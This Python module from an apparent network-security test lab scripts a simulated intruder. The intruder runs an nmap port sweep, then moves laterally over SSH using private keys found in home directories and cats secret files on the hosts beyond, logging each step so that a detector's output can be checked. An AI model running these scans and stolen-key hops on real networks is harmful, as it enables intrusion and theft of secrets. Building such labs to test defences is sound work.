"""The attacker on a compromised host: a port sweep with nmap, then hops over ssh.

Uses only what such a host has: the keys in its accounts' home directories and
the programs on it. Nothing here looks at what Septum does.
"""

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass

from mininet_tests.lab.captures import Hostile
from mininet_tests.lab.lab import RunningHost
from mininet_tests.lab.plan import LabPlan
from mininet_tests.lab.programs import ACCOUNT, LabPrograms, secret_of
from mininet_tests.scenario.actions import ssh_command
from mininet_tests.scenario.scenario import Attack

SSH = 22
KNOCK_SECONDS = 2  # how long the attacker waits for a host to answer at all
HOP_SECONDS = 3.0  # how long a login may take before the attacker tries elsewhere
NMAP_START = 4.0  # seconds that nmap gets beyond its own limit
_OPEN = re.compile(r"^Host: (\S+) .*Ports: (.*)$", re.MULTILINE)
_PWNED = "hop-succeeded"


@dataclass(frozen=True, slots=True)
class AttackStep:
    """One thing the attacker did, and how it went; ``target`` is a host's name or a count."""

    started: float
    ended: float
    what: str
    target: str
    ok: bool
    detail: str


@dataclass(frozen=True, slots=True)
class AttackLog:
    """``began`` is just before the first program started. ``pivots`` are the hosts that were
    logged in to, ``loot`` the secrets that were read."""

    began: float
    ended: float
    steps: tuple[AttackStep, ...]
    pivots: tuple[str, ...]
    loot: tuple[str, ...]


def carry_out(site: LabPrograms, attack: Attack, tell: Callable[[str], None]) -> AttackLog:
    """Sweep, then hop until a hop leads on to the secret or none is left; at most
    ``attack.seconds`` plus a few seconds a hop. ``tell`` hears each step as it begins."""
    plan = site.lab.plan
    host = site.lab.host(attack.host)
    began = time.time()
    tell(f"{attack.host} sweeps {len(plan.hosts) - 1} hosts and {len(attack.unused)} unused ones")
    sweep, found = _sweep(host, attack, plan)
    steps, pivots, loot = [sweep], [], []
    for target in dict.fromkeys((*(n for n in found if n in attack.hop_to), *attack.hop_to)):
        tell(f"{attack.host} tries to hop to {target} by ssh")
        step, read = _hop(host, attack, plan, target)
        steps.append(step)
        loot += read
        if step.ok:
            pivots.append(target)
        if read:
            break
    return AttackLog(began, time.time(), tuple(steps), tuple(pivots), tuple(loot))


def hostile_of(attack: Attack, log: AttackLog, plan: LabPlan) -> Hostile:
    """What tells this attack's packets from the benign ones."""
    own = frozenset((*attack.ports, SSH))
    ports = dict.fromkeys(plan.host(attack.host).ips, own)
    for pivot in log.pivots:
        ports |= {ip: frozenset({SSH}) for ip in plan.host(pivot).ips}
    return Hostile(log.began, ports, frozenset(attack.unused))


def nmap_command(attack: Attack, targets: Iterable[str]) -> list[str]:
    """A connect scan as any account may run it: no raw packets, no name lookups."""
    ports = ",".join(map(str, attack.ports))
    argv = ["nmap", "--unprivileged", "-sT", "-Pn", "-n", "-T4", "--max-retries", "1"]
    argv += ["--host-timeout", f"{attack.seconds:g}s", "-p", ports, "-oG", "-"]
    return [*argv, *targets]


def hosts_with(report: str, port: int) -> list[str]:
    """The addresses on which a grepable nmap report shows a TCP port open.

    >>> hosts_with("Host: 10.0.0.7 ()\\tPorts: 22/open/tcp//ssh///, 23/filtered/tcp//x///", 22)
    ['10.0.0.7']
    """
    wanted = f"{port}/open/tcp"
    return [
        ip
        for ip, ports in _OPEN.findall(report)
        if any(entry.strip().startswith(wanted) for entry in ports.split(","))
    ]


def _sweep(host: RunningHost, attack: Attack, plan: LabPlan) -> tuple[AttackStep, list[str]]:
    others = [h.ipv4 for h in plan.hosts if h.name != attack.host and h.ipv4 is not None]
    done = host.run(nmap_command(attack, [*others, *attack.unused]), attack.seconds + NMAP_START)
    found = [name for ip in hosts_with(done.stdout, SSH) if (name := plan.owner(ip)) is not None]
    ended = "ended" if done.returncode is not None else "cut short"
    detail = f"{ended} after {done.seconds:.1f} s; ssh open on {', '.join(found) or 'none'}"
    targets = f"{len(others) + len(attack.unused)} addresses"
    return AttackStep(done.started, done.ended, "sweep", targets, bool(found), detail), found


def _hop(
    host: RunningHost, attack: Attack, plan: LabPlan, target: str
) -> tuple[AttackStep, list[str]]:
    """Log in to ``target`` and from there, with the key found there, to the hosts beyond."""
    ip = plan.host(target).ips[0]
    door = host.run(["ncat", "-z", "-w", f"{KNOCK_SECONDS:g}", ip, str(SSH)], KNOCK_SECONDS + 1)
    if not door.ok:
        return AttackStep(door.started, door.ended, "hop", target, False, "no answer"), []
    beyond = [plan.host(name).ips[0] for name in attack.onward_to]
    onward = (
        f"echo {_PWNED}; for ip in {' '.join(beyond)}; do "
        f"timeout 2 dbclient -y -y -q -T -i ~/.ssh/id_{attack.onward_key} -l {ACCOUNT} "
        f"$ip cat {attack.reads}; done"
    )
    key = str(host.directory / "home" / ".ssh" / f"id_{attack.hop_key}")
    done = host.run(ssh_command(key, ip, onward), HOP_SECONDS + 2 * len(beyond))
    inside = _PWNED in done.stdout
    read = [
        secret
        for name in attack.onward_to
        if (secret := secret_of(name, attack.reads)) in done.stdout
    ]
    detail = f"logged in, read: {', '.join(read) or 'nothing'}" if inside else "no way in"
    return AttackStep(door.started, done.ended, "hop", target, inside, detail), read
